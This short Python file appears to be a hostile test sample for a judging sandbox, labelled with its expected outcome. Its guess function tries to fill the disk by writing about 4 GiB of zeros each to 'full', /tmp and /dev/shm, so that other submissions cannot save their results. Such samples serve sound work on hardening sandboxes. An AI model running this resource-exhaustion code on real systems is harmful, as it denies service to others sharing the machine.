# Tries to leave no space for the records of the others. Safe: 6, passed or failed or crashed.
import os


def total(number):
    return number * (number + 1) // 2


def first(number):
    return total(number)


def guess(number):
    for place in ("full", "/tmp/full", "/dev/shm/full"):
        try:
            with open(place, "wb") as file:
                for _ in range(4096):
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    return 0
